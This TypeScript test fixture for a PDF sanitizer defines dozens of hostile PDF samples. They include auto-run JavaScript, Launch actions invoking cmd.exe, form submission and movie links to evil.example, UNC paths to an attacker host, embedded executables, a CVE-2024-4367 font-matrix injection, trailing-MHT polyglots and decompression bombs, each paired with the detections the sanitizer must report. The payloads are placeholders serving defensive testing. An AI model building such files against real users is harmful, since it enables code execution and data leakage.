import { deflateSync } from 'node:zlib'
import { PDFDocument, PDFHexString, PDFName } from '@cantoo/pdf-lib'
import type { FindingKind } from '../../../sanitizer/findings.ts'
import type { RefusalCode } from '../../../sanitizer/refusal.ts'
import { bodies, build, compressed, file, flated, hex, MARKER, octal, type Parts, SCRIPT, stream, updated, utf16 } from './pdf.ts'

/** One hostile file: what inspection must see before disarm, and what becomes of it. */
export interface HostilePdf {
  readonly name: string
  readonly bytes: () => Uint8Array | Promise<Uint8Array>
  /** Each must be among the findings of the input. */
  readonly seen: readonly FindingKind[]
  /** Refusals that are the answer; without one, a clean file must come out. */
  readonly refused?: readonly RefusalCode[]
}

const script = `<</S/JavaScript/JS(${SCRIPT})>>`
const of = (name: string, seen: FindingKind | readonly FindingKind[], parts: Parts): HostilePdf => ({
  name,
  seen: typeof seen === 'string' ? [seen] : seen,
  bytes: () => build(parts),
})
const annotation = (name: string, seen: FindingKind | readonly FindingKind[], entries: string, objects: readonly string[] = []) =>
  of(name, seen, { page: `/Annots[<</Type/Annot/Rect[10 10 90 90]${entries}>>]`, objects })
const link = (name: string, seen: FindingKind | readonly FindingKind[], action: string, objects: readonly string[] = []) =>
  annotation(name, seen, `/Subtype/Link/A<<${action}>>`, objects)
const attachment = `<</Type/Filespec/F(${MARKER}.exe)/EF<</F 11 0 R>>>>`
const payload = flated('/Type/EmbeddedFile', `MZ ${MARKER}`)

/** Rows of threats.md 3.1: what acts by itself. */
const actions: readonly HostilePdf[] = [
  of('open action: script', 'javascript', { catalog: `/OpenAction${script}` }),
  of('open action: launch by reference', ['action', 'launch-action'], {
    catalog: '/OpenAction 10 0 R',
    objects: [`<</S/Launch/F(${MARKER}.exe)>>`],
  }),
  of('launch with /Win parameters', 'launch-action', { catalog: `/OpenAction<</S/Launch/Win<</F(cmd.exe)/P(/c ${MARKER})>>>>` }),
  of('launch with /Mac and /Unix', 'launch-action', { catalog: `/OpenAction<</S/Launch/Mac(${MARKER})/Unix(${MARKER})>>` }),
  of('additional actions of the catalog', 'action', { catalog: `/AA<</WC${script}/WS${script}/DS${script}/WP${script}/DP${script}>>` }),
  of('additional actions of a page without annotations', 'action', { page: `/AA<</O${script}/C${script}>>` }),
  annotation('additional actions of an annotation', 'action', `/Subtype/Text/AA<</E${script}/X${script}/PO${script}/PV${script}>>`),
  of('additional actions of a field', ['form', 'action'], {
    catalog: '/AcroForm<</Fields[10 0 R]/CO[10 0 R]>>',
    page: '/Annots[10 0 R]',
    objects: [`<</Subtype/Widget/FT/Tx/T(total)/Rect[0 0 9 9]/AA<</K${script}/F${script}/V${script}/C${script}>>>>`],
  }),
  of('script in the names tree', 'javascript', { catalog: `/Names<</JavaScript<</Names[(a)${script}]>>>>` }),
  of('script in a kid of the names tree', 'javascript', {
    catalog: '/Names<</JavaScript<</Kids[10 0 R]>>>>',
    objects: [`<</Limits[(a)(a)]/Names[(a) 11 0 R]>>`, `<</S/JavaScript/JS 12 0 R>>`, flated('', SCRIPT)],
  }),
  link('chain of /Next', 'javascript', `/S/GoTo/D[3 0 R/Fit]/Next[<</S/Named/N/NextPage/Next${script}>>]`),
  link('GoToR to a UNC path', 'external-reference', `/S/GoToR/F(\\\\\\\\attacker\\\\${MARKER})/D[0/Fit]`),
  link('GoToE into an attachment', 'external-reference', `/S/GoToE/F(${MARKER})/D[0/Fit]/T<</R/C/N(x)>>`),
  link('remote thread', 'action', `/S/Thread/F(${MARKER}.pdf)/D 0`),
  link('submit form', 'action', `/S/SubmitForm/F<</FS/URL/F(http://evil.example/${MARKER})>>/Flags 4`),
  link('import data', 'action', `/S/ImportData/F(${MARKER}.fdf)`),
  link('reset form', 'action', `/S/ResetForm/Fields[(${MARKER})]`),
  link('hide', 'action', `/S/Hide/T(${MARKER})/H true`),
  link('set layer state', 'action', '/S/SetOCGState/State[/ON 10 0 R]', [`<</Type/OCG/Name(${MARKER})>>`]),
  link('link: javascript:', 'unsafe-link', `/S/URI/URI(javascript:${SCRIPT.replace(/[()]/g, '_')})`),
  link('link: file:', 'unsafe-link', `/S/URI/URI(file:///c:/${MARKER})`),
  link('link: UNC', 'unsafe-link', `/S/URI/URI(\\\\\\\\evil\\\\${MARKER})`),
  link('link: search-ms:', 'unsafe-link', `/S/URI/URI(search-ms:query=${MARKER})`),
  of('base for links', [], { catalog: `/URI<</Base(file:///${MARKER}/)>>` }),
  of('page transition and presentation steps', 'action', { page: `/Dur 1/Trans<</S/Fly>>/PresSteps<</NA${script}>>` }),
  of('action in an outline three levels down', ['outline', 'javascript'], {
    catalog: '/Outlines 10 0 R',
    objects: [
      '<</First 11 0 R/Last 11 0 R/Count 1>>',
      '<</Title(a)/Parent 10 0 R/First 12 0 R/Last 12 0 R>>',
      `<</Title(b)/Parent 11 0 R/A${script}>>`,
    ],
  }),
  of('full screen and hidden toolbars', [], {
    catalog: `/PageMode/FullScreen/ViewerPreferences<</HideToolbar true/HideMenubar true/X(${MARKER})>>`,
  }),
  of('requirements and legal', 'action', {
    catalog: `/Requirements[<</S/EnableJavaScripts/RH<</S/JS/Script(${MARKER})>>>>]/Legal<</Attestation(${MARKER})>>`,
  }),
]

const forms: readonly HostilePdf[] = [
  of('XFA in one stream', 'form', {
    catalog: '/AcroForm<</Fields[12 0 R]/XFA 10 0 R>>',
    objects: [flated('', `<xdp><script>${MARKER}</script></xdp>`), '<<>>', '<</FT/Tx/T(x)>>'],
  }),
  of('XFA in packets', 'form', {
    catalog: '/AcroForm<</Fields[12 0 R]/XFA[(preamble) 10 0 R(template) 11 0 R]>>',
    objects: [stream('', `<xdp ${MARKER}>`), stream('', `<x>${MARKER}</x>`), '<</FT/Tx/T(x)>>'],
  }),
  of('payload staged in a field value', 'form', {
    catalog: '/AcroForm<</Fields[10 0 R]>>',
    objects: [`<</FT/Tx/T(x)/V${hex(SCRIPT)}/DV${utf16(SCRIPT)}>>`],
  }),
  of('signature with a seed value URL', ['form', 'signature'], {
    catalog: '/AcroForm<</SigFlags 3/Fields[10 0 R]>>/Perms<</DocMDP 11 0 R>>',
    objects: [
      `<</FT/Sig/T(s)/V 11 0 R/SV<</TimeStamp<</URL(http://${MARKER})>>>>>>`,
      `<</Type/Sig/Filter/Adobe.PPKLite/ByteRange[0 1 2 3]/Contents${hex(MARKER)}>>`,
    ],
  }),
]

const files: readonly HostilePdf[] = [
  of('embedded file in the names tree', 'embedded-file', {
    catalog: '/Names<</EmbeddedFiles<</Names[(a) 10 0 R]>>>>',
    objects: [attachment, payload],
  }),
  of('associated file of the catalog', 'embedded-file', { catalog: '/AF[10 0 R]', objects: [attachment, payload] }),
  of('associated file of a page', 'embedded-file', { page: '/AF[10 0 R]', objects: [attachment, payload] }),
  annotation('file attachment annotation', 'embedded-file', '/Subtype/FileAttachment/FS 10 0 R', [attachment, payload]),
  of('portfolio', 'embedded-file', {
    catalog: `/Collection<</Type/Collection/D(${MARKER})>>/Names<</EmbeddedFiles<</Names[(a) 10 0 R]>>>>`,
    objects: [attachment, payload],
  }),
  of('embedded file that nothing refers to', 'embedded-file', { objects: [attachment, payload] }),
]

const media: readonly HostilePdf[] = [
  annotation(
    'screen with a rendition and its script',
    'multimedia',
    `/Subtype/Screen/A<</S/Rendition/OP 0/JS(${SCRIPT})/R<</S/MR/C<</S/MCD/D 10 0 R>>>>>>`,
    [attachment, payload],
  ),
  annotation('rich media', 'multimedia', '/Subtype/RichMedia/RichMediaContent<</Assets<</Names[(a.swf) 10 0 R]>>>>', [attachment, payload]),
  annotation('3D with a script', 'multimedia', '/Subtype/3D/3DD 10 0 R', [
    stream(`/Type/3D/Subtype/U3D/OnInstantiate 11 0 R`, `U3D ${MARKER}`),
    stream('', SCRIPT),
  ]),
  annotation('movie', 'multimedia', `/Subtype/Movie/Movie<</F(http://evil.example/${MARKER})>>`),
  annotation('sound', 'multimedia', '/Subtype/Sound/Sound 10 0 R', [stream(`/Type/Sound/R 8000`, MARKER)]),
  annotation('projection', 'multimedia', `/Subtype/Projection/ExData<</Type/ExData/Subtype/3DM/M3DREF(${MARKER})>>`),
]

const external: readonly HostilePdf[] = [
  of('image whose data is a URL', 'external-reference', {
    resources: '/XObject<</X 10 0 R>>',
    objects: [
      stream(`/Subtype/Image/Width 1/Height 1/ColorSpace/DeviceGray/BitsPerComponent 8/F<</FS/URL/F(http://evil.example/${MARKER})>>`, 'x'),
    ],
  }),
  of('external stream with a filter', 'external-reference', {
    resources: '/XObject<</X 10 0 R>>',
    objects: [stream(`/Subtype/Form/BBox[0 0 1 1]/F(\\\\\\\\evil\\\\${MARKER})/FFilter/FlateDecode`, '')],
  }),
  of('reference XObject', 'external-reference', {
    resources: '/XObject<</X 10 0 R>>',
    objects: [stream(`/Subtype/Form/BBox[0 0 1 1]/Ref<</F(${MARKER}.pdf)/Page 0>>`, 'n')],
  }),
  of('OPI', 'external-reference', {
    resources: '/XObject<</X 10 0 R>>',
    objects: [stream(`/Subtype/Form/BBox[0 0 1 1]/OPI<</2.0<</Type/OPI/F(${MARKER})>>>>`, 'n')],
  }),
  of('alternate images', [], {
    resources: '/XObject<</X 10 0 R>>',
    objects: [
      stream('/Subtype/Image/Width 1/Height 1/ColorSpace/DeviceGray/BitsPerComponent 8/Alternates[<</Image 11 0 R>>]', 'x'),
      stream(`/Subtype/Image/Width 1/Height 1/X(${MARKER})`, 'x'),
    ],
  }),
]

const programs: readonly HostilePdf[] = [
  of('PostScript XObject', 'postscript', {
    resources: '/XObject<</X 10 0 R>>',
    objects: [stream('/Type/XObject/Subtype/PS', `(${MARKER}) run`)],
  }),
  of('form with a PostScript face', 'postscript', {
    resources: '/XObject<</X 10 0 R>>',
    objects: [stream('/Type/XObject/Subtype/Form/Subtype2/PS/BBox[0 0 1 1]', `n %${MARKER}`)],
  }),
  of('calculator function that opens a file', 'postscript', {
    resources: '/Shading<</S<</ShadingType 2/ColorSpace/DeviceGray/Coords[0 0 1 1]/Function 10 0 R>>>>',
    objects: [stream('/FunctionType 4/Domain[0 1]/Range[0 1]', `{ (${MARKER}) (w) file exch pop }`)],
  }),
  of('calculator function nested past its bound', 'postscript', {
    resources: '/Shading<</S<</ShadingType 2/ColorSpace/DeviceGray/Coords[0 0 1 1]/Function 10 0 R>>>>',
    objects: [stream('/FunctionType 4/Domain[0 1]/Range[0 1]', `${'{'.repeat(5000)} ${'}'.repeat(5000)} %${MARKER}`)],
  }),
  of('font matrix with a string (CVE-2024-4367)', 'font', {
    font: `<</Type/Font/Subtype/Type3/FontBBox[0 0 1 1]/FontMatrix[1 2 3 4 5(0\\); ${MARKER}//)]/CharProcs<<>>/Encoding<</Differences[]>>/FirstChar 0/LastChar 0/Widths[0]>>`,
  }),
  of('font matrix in a Type 1 dictionary', 'font', {
    font: `<</Type/Font/Subtype/Type1/BaseFont/Helvetica/FontMatrix[1 2 3 4 5(${MARKER})]>>`,
  }),
  of('PostScript operator in page content', [], { content: `(${MARKER}) PS BT /F1 24 Tf 20 100 Td (Shelter photo) Tj ET` }),
  of('comment in page content', [], { content: `%${MARKER}\nBT /F1 24 Tf 20 100 Td (Shelter photo) Tj ET` }),
  of('unknown operator between BX and EX', [], { content: `BX (${MARKER}) evil EX BT /F1 24 Tf 20 100 Td (Shelter photo) Tj ET` }),
  of('property list with more than text', [], {
    content: `/P <</A ${octal(MARKER)}/B[(${MARKER})<</C(${MARKER})>>]/MCID 1>> BDC BT /F1 24 Tf 20 100 Td (Shelter photo) Tj ET EMC`,
  }),
  of('CMap that runs procedures', [], {
    font: '<</Type/Font/Subtype/Type1/BaseFont/Helvetica/ToUnicode 10 0 R>>',
    objects: [stream('', `/CIDInit /ProcSet findresource begin (${MARKER}) run { exec } forall end`)],
  }),
]

const telling: readonly HostilePdf[] = [
  of('information dictionary', 'metadata', { trailer: '/Info 10 0 R', objects: [`<</Author(${MARKER})/Title${utf16(MARKER)}>>`] }),
  of('XMP of the document', 'metadata', {
    catalog: '/Metadata 10 0 R',
    objects: [stream('/Type/Metadata/Subtype/XML', `<x>${MARKER}</x>`)],
  }),
  of('XMP of a form', 'metadata', {
    resources: '/XObject<</X 10 0 R>>',
    objects: [stream('/Subtype/Form/BBox[0 0 1 1]/Metadata 11 0 R', 'n'), stream('/Type/Metadata', MARKER)],
  }),
  of('private data of an application', 'metadata', { page: `/PieceInfo<</App<</Private(${MARKER})>>>>/LastModified(D:2020)` }),
  of('web capture', 'metadata', { catalog: `/SpiderInfo<</V 1.0/C[(${MARKER})]>>/Names<</URLS<</Names[(http://${MARKER}) 3 0 R]>>>>` }),
  of('page thumbnail', 'thumbnail', {
    page: '/Thumb 10 0 R',
    objects: [stream('/Width 1/Height 1/ColorSpace/DeviceGray/BitsPerComponent 8', MARKER)],
  }),
  of('file identifier', [], { trailer: `/ID[${hex(MARKER)}${hex(MARKER)}]` }),
  of('alternate text of the structure tree', 'structure', {
    catalog: `/StructTreeRoot<</Type/StructTreeRoot/K<</S/P/Alt(${MARKER})>>>>/MarkInfo<</Marked true>>`,
  }),
  of('layer that is off, by name', 'hidden-layer', {
    catalog: `/OCProperties<</OCGs[10 0 R]/D<</OFF[10 0 R]/Name(${MARKER})/AS[<</Event/View/Category[/View]/OCGs[10 0 R]>>]>>>>`,
    resources: '/Properties<</L 10 0 R>>',
    content: 'BT /F1 24 Tf 20 100 Td (Shelter photo) Tj ET /OC /L BDC 0 0 50 50 re f EMC',
    objects: [`<</Type/OCG/Name(${MARKER})/Usage<</CreatorInfo<</Creator(${MARKER})>>>>>>`],
  }),
  of('object that nothing refers to', 'malformed', { objects: [stream('', MARKER.repeat(20))] }),
  of('page template and alternate presentations', [], {
    catalog: `/Names<</Templates<</Names[(${MARKER}) 3 0 R]>>/AlternatePresentations<</Names[(x)<</X(${MARKER})>>]>>>>`,
  }),
  of('security store and extensions', 'signature', {
    catalog: `/DSS<</Certs[10 0 R]>>/Extensions<</ADBE<</URL(${MARKER})>>>>`,
    objects: [stream('', MARKER)],
  }),
]

const encoded = (name: string): string => [...name].map((one) => `#${one.charCodeAt(0).toString(16)}`).join('')
const plain = bodies({})

/** Hiding places and disagreements between readers. */
const hiding: readonly HostilePdf[] = [
  of('names spelt with #xx', ['action', 'javascript'], {
    catalog: `/${encoded('OpenAction')}<</${encoded('S')}/${encoded('JavaScript')}/${encoded('JS')}(${SCRIPT})>>`,
  }),
  of('script in hexadecimal', 'javascript', { catalog: `/OpenAction<</S/JavaScript/JS${hex(SCRIPT)}>>` }),
  of('script in octal', 'javascript', { catalog: `/OpenAction<</S/JavaScript/JS${octal(SCRIPT)}>>` }),
  of('script in UTF-16', 'javascript', { catalog: `/OpenAction<</S/JavaScript/JS${utf16(SCRIPT)}>>` }),
  of('keys met twice', 'javascript', { catalog: `/OpenAction[3 0 R/Fit]/OpenAction${script}` }),
  of('comments between tokens', 'javascript', { catalog: `/OpenAction%${MARKER}\n<</S%x\n/JavaScript/JS(${SCRIPT})>>` }),
  { name: 'object stream', seen: ['javascript'], bytes: () => compressed({ catalog: `/OpenAction${script}` }) },
  { name: 'object stream coded in hexadecimal', seen: ['javascript'], bytes: () => compressed({ catalog: `/OpenAction${script}` }, 'Hex') },
  {
    name: 'incremental update that adds a script',
    seen: ['javascript', 'history'],
    bytes: () => updated(file(plain), new Map([[1, `<</Type/Catalog/Pages 2 0 R/OpenAction${script}>>`]])),
  },
  {
    name: 'incremental update that hides an earlier page',
    seen: ['history'],
    bytes: () => updated(file(bodies({ content: `BT /F1 9 Tf (${MARKER}) Tj ET` })), new Map([[4, stream('', 'n')]])),
  },
  { name: 'bytes before the header', seen: ['malformed'], bytes: () => file(plain, '', `GIF89a ${MARKER}\n`) },
  { name: 'bytes after the end', seen: ['trailing-bytes'], bytes: () => file(plain, '', '', `PK\x03\x04${MARKER}`) },
  {
    name: 'MHT behind the end (MalDoc in PDF)',
    seen: ['trailing-bytes'],
    bytes: () => file(plain, '', '', `MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n${MARKER}`),
  },
  { name: 'HTML before the header', seen: ['malformed'], bytes: () => file(plain, '', `<html><script>${MARKER}</script>\n`) },
  {
    name: 'hybrid cross-reference',
    seen: ['history'],
    bytes: () => file(bodies({ objects: [flated('/Type/ObjStm/N 1/First 5', `20 0 ${script}`)] }), '/XRefStm 15'),
  },
  {
    name: 'stream whose /Length is a lie',
    seen: ['malformed'],
    bytes: () =>
      file(new Map([...plain, [4, `<</Length 3>>\nstream\nBT /F1 24 Tf 20 100 Td (Shelter photo) Tj ET %${MARKER}\nendstream`]])),
  },
  {
    name: 'object without endobj',
    seen: ['malformed'],
    bytes: () =>
      Buffer.from(
        Buffer.from(build({ trailer: `/X(${MARKER})` }))
          .toString('latin1')
          .replace('endobj\n', ''),
        'latin1',
      ),
  },
  {
    name: 'catalog without /Type',
    seen: ['malformed'],
    bytes: () => file(new Map([...plain, [1, `<</Pages 2 0 R/X(${MARKER})>>`]])),
    refused: ['malformed'],
  },
  { name: 'string in a dictionary nobody reads', seen: ['malformed'], bytes: () => build({ page: `/Whatever<</Deep[[[(${MARKER})]]]>>` }) },
]

async function encrypted(password: string): Promise<Uint8Array> {
  const document = await PDFDocument.create()
  document.addPage([300, 200]).drawText('Shelter photo')
  document.catalog.set(PDFName.of('OpenAction'), document.context.obj({ S: 'JavaScript', JS: PDFHexString.fromText(SCRIPT) }))
  document.encrypt({ userPassword: password, ownerPassword: 'owner' })
  return document.save({ useObjectStreams: false })
}

const nest = (depth: number): string => `${'['.repeat(depth)}${']'.repeat(depth)}`
const zeros = (megabytes: number) => deflateSync(Buffer.alloc(megabytes << 20))

/** Files that cost more than they show. */
const bombs: readonly HostilePdf[] = [
  { name: 'encrypted with the empty password', seen: ['encryption'], bytes: () => encrypted('') },
  { name: 'encrypted with a password', seen: ['encryption'], bytes: () => encrypted('secret'), refused: ['encrypted'] },
  {
    name: 'deflate of a deflate',
    seen: ['malformed'],
    bytes: () => file(new Map([...plain, [4, stream('/Filter[/FlateDecode/FlateDecode]', deflateSync(zeros(200)))]])),
    refused: ['limit-ratio'],
  },
  {
    name: 'content that expands a thousand times',
    seen: ['malformed'],
    bytes: () => file(new Map([...plain, [4, stream('/Filter/FlateDecode', zeros(60))]])),
    refused: ['limit-ratio'],
  },
  {
    name: 'object stream that expands a thousand times',
    seen: ['malformed'],
    bytes: () => file(new Map([...plain, [10, stream('/Type/ObjStm/N 1/First 4/Filter/FlateDecode', zeros(60))]])),
    refused: ['limit-ratio'],
  },
  {
    name: 'chain of filters',
    seen: ['malformed'],
    bytes: () =>
      build({
        resources: '/XObject<</X 10 0 R>>',
        objects: [stream(`/Subtype/Form/BBox[0 0 1 1]/Filter[${'/ASCIIHexDecode'.repeat(9)}]`, '00>')],
      }),
    refused: ['limit-depth'],
  },
  {
    name: 'predictor with impossible columns',
    seen: ['malformed'],
    bytes: () =>
      build({
        resources: '/XObject<</X 10 0 R>>',
        objects: [
          stream(
            '/Subtype/Form/BBox[0 0 1 1]/Filter/FlateDecode/DecodeParms<</Predictor 12/Columns 2000000000>>',
            deflateSync(Buffer.from('x')),
          ),
        ],
      }),
    refused: ['malformed'],
  },
  {
    name: 'image of a million by a million',
    seen: ['malformed'],
    bytes: () =>
      build({
        resources: '/XObject<</X 10 0 R>>',
        objects: [stream('/Subtype/Image/Width 1000000/Height 1000000/ColorSpace/DeviceGray/BitsPerComponent 8', 'x')],
      }),
    refused: ['limit-pixels'],
  },
  {
    name: 'page tree that contains itself',
    seen: ['malformed'],
    bytes: () => build({ pages: `<</Type/Pages/Count 9/Kids[2 0 R 3 0 R]/X(${MARKER})>>` }),
    refused: ['content-missing', 'malformed'],
  },
  {
    name: 'page tree without an end',
    seen: ['malformed'],
    bytes: () =>
      build({
        pages: '<</Type/Pages/Count 1/Kids[10 0 R]>>',
        objects: ['<</Type/Pages/Count 1/Kids[11 0 R]>>', '<</Type/Pages/Count 1/Kids[10 0 R]>>'],
      }),
    refused: ['malformed'],
  },
  {
    name: 'array of 65,535 arrays',
    seen: [],
    bytes: () => build({ page: `/X${nest(65_535)}/Y(${MARKER})` }),
    refused: ['limit-depth', 'malformed', 'content-missing'],
  },
  {
    name: 'array of 65,535 arrays in page content',
    seen: ['malformed'],
    bytes: () => build({ content: `/P <</X ${nest(65_535)}>> BDC EMC` }),
    refused: ['limit-depth'],
  },
  {
    name: 'form that draws itself',
    seen: ['malformed'],
    bytes: () =>
      build({
        resources: '/XObject<</X 10 0 R>>',
        content: '/X Do',
        objects: [stream(`/Subtype/Form/BBox[0 0 1 1]/Y(${MARKER})/Resources<</XObject<</X 10 0 R>>>>`, '/X Do')],
      }),
  },
  {
    name: 'pattern that paints itself',
    seen: ['malformed'],
    bytes: () =>
      build({
        resources: '/Pattern<</P 10 0 R>>',
        content: '/Pattern cs /P scn 0 0 9 9 re f',
        objects: [
          stream(
            `/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 1 1]/XStep 1/YStep 1/Y(${MARKER})/Resources<</Pattern<</P 10 0 R>>>>`,
            '/Pattern cs /P scn 0 0 9 9 re f',
          ),
        ],
      }),
  },
  {
    name: 'colour space that is its own base',
    seen: ['malformed'],
    bytes: () => build({ resources: '/ColorSpace<</C 10 0 R>>', objects: [`[/Indexed 10 0 R 1(${MARKER})]`] }),
  },
  {
    name: 'function that stitches itself',
    seen: ['malformed'],
    bytes: () =>
      build({
        resources: '/Shading<</S<</ShadingType 2/ColorSpace/DeviceGray/Coords[0 0 1 1]/Function 10 0 R>>>>',
        objects: ['<</FunctionType 3/Domain[0 1]/Functions[10 0 R]/Bounds[]/Encode[0 1]>>'],
      }),
  },
  { name: 'reference to itself', seen: ['malformed'], bytes: () => build({ page: '/Group 10 0 R', objects: ['10 0 R'] }) },
]

export const hostilePdfs: readonly HostilePdf[] = [
  ...actions,
  ...forms,
  ...files,
  ...media,
  ...external,
  ...programs,
  ...telling,
  ...hiding,
  ...bombs,
]
